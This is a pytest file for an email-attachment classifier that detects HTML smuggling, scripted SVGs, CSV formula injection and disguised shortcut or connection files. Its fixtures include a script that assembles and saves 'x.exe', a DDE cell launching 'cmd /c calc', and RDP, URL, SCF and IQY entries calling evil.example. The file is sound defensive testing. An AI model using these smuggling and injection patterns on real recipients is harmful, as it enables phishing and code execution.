"""Attached pages, drawings and words: what they would do when a person opens them."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from parsers.containers.kinds import tell
from parsers.containers.transfer import Declared
from parsers.contract import Kind

SMUGGLED = b'<html><script>var b=atob("TVqQ");saveAs(new Blob([b]),"x.exe")</script></html>'
LONG = b"QUJD" * 500


def told(data: bytes, name: str, kind: str = "application/octet-stream") -> tuple[Kind, tuple[str, ...]]:
    """Return kind and codes of a file that hangs on a mail."""
    found = tell(data, Declared(type=kind, name=name, attachment=True, charset="", encoding="base64"))
    return found.kind, found.codes


@pytest.mark.parametrize(
    ("name", "data", "kind", "codes"),
    [
        ("a.html", SMUGGLED, Kind.HTML, ("script-bait",)),
        ("a.htm", SMUGGLED.decode().encode("utf-16"), Kind.TEXT, ("script-bait",)),
        ("a.txt", SMUGGLED, Kind.HTML, ("script-bait",)),
        ("a.xhtml", b'<?xml version="1.0"?>' + SMUGGLED, Kind.TEXT, ("script-bait",)),
        ("a.html", b"words " + SMUGGLED, Kind.TEXT, ("script-bait",)),
        ("a.html", SMUGGLED + b"%PDF-1.7", Kind.PDF, ("late-pdf-header", "script-bait")),
        ("a.html", b"<html><script>x='" + LONG + b"';document.write(d(x))</script>", Kind.HTML, ("script-bait",)),
        ("a.html", b"<html><script>eval(s([" + b"77, " * 500 + b"]))</script>", Kind.HTML, ("script-bait",)),
        ("a.html", b"<html><script>document.write(1)</script></html>", Kind.HTML, ("page-script",)),
        ("a.html", b'<html><body onload="x()">words</body></html>', Kind.HTML, ("page-script",)),
        ("a.html", b'<html><a href="javascript:x()">words</a></html>', Kind.HTML, ("page-script",)),
        ("a.svg", b'<svg onload="alert(1)"/>', Kind.TEXT, ("script-bait",)),
        ("a.svg", b'<?xml version="1.0"?>\n<svg xmlns="x"><script>x</script></svg>', Kind.TEXT, ("script-bait",)),
        ("a.xml", b"<?xml version='1.0'?><xsl:x><msxsl:script>x</msxsl:script></xsl:x>", Kind.TEXT, ("page-script",)),
        ("a.csv", b"name,day\r\n=cmd|'/c calc'!A1,1\r\n", Kind.TEXT, ("script-bait",)),
    ],
)
def test_what_a_page_would_do_is_told(name: str, data: bytes, kind: Kind, codes: tuple[str, ...]) -> None:
    """A script that builds a file, a script in a drawing and a cell that starts a program are bait."""
    assert told(data, name) == (kind, codes)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.rdp", b"screen mode id:i:2\r\nfull address:s:evil.example\r\n"),
        ("a.txt", b"WEB\r\n1\r\nhttp://evil.example/a"),
        ("a.txt", b"ID;PWXL;N;E\r\n"),
        ("a.txt", b"[InternetShortcut]\r\nURL=file://evil.example/x"),
        ("a.txt", b"[Shell]\r\nIconFile=\\\\evil.example\\x"),
        ("a.xml", b'<?xml version="1.0"?><persistedQuery version="1.0"/>'),
        ("a.xml", b'<package><job id="a"><script language="VBScript">x</script></job></package>'),
        ("a.txt", b"Windows Registry Editor Version 5.00"),
        ("a.html", b"<html><hta:application id=x><script>x</script></html>"),
        ("a.iqy", b"words"),
        ("a.search-ms", b"words"),
    ],
)
def test_shortcuts_and_connections_are_programs_whatever_they_are_called(name: str, data: bytes) -> None:
    """Content tells, and a name only against the part."""
    assert told(data, name)[0] is Kind.EXECUTABLE


@pytest.mark.parametrize(
    ("name", "kind", "data"),
    [
        ("invite.ics", "text/calendar", b"BEGIN:VCALENDAR\r\nX-ALT-DESC:<script>x</script>\r\nEND:VCALENDAR"),
        ("signature.asc", "application/pgp-signature", b"-----BEGIN PGP SIGNATURE-----\n\n"),
        ("ATT00001.htm", "text/html", b'<html><body style="x">Sent from my phone<br></body></html>'),
        ("form.html", "text/html", b'<html><form action="https://agency.example/"><input name=a></form></html>'),
        ("notes.txt", "text/plain", b"I wrote <script> in javascript: she said; = and - | 'then'"),
        ("list.csv", "text/csv", b"name,telephone\r\nOrla,+44 161 496 0000\r\n-,=1+2\r\n"),
        ("logo.svg", "image/svg+xml", b'<svg xmlns="x"><path d="M0 0"/></svg>'),
        ("data.xml", "text/xml", b'<?xml version="1.0"?><a online="yes" once="no">words</a>'),
        ("job.xml", "text/xml", b"<job><title>words</title></job>"),
    ],
)
def test_ordinary_attachments_are_nothing_to_tell(name: str, kind: str, data: bytes) -> None:
    """Calendars, signatures, pages and tables without a script raise no alarm."""
    found, codes = told(data, name, kind)
    assert (found is not Kind.EXECUTABLE, codes) == (True, ())


def test_a_mails_own_page_is_never_asked() -> None:
    """No mail program runs what stands in a body: newsletters have scripts in theirs."""
    body = Declared(type="text/html", name="", attachment=False, charset="", encoding="")
    assert tell(SMUGGLED, body).codes == ()
    assert tell(b"[InternetShortcut]", body).kind is not Kind.EXECUTABLE


@given(st.binary(max_size=300), st.sampled_from(["a.html", "a.svg", "a.txt", "a.xml"]))
def test_any_words_are_looked_at(noise: bytes, name: str) -> None:
    """Nothing a stranger writes raises."""
    assert told(b"<svg " + noise, name)[0] in Kind
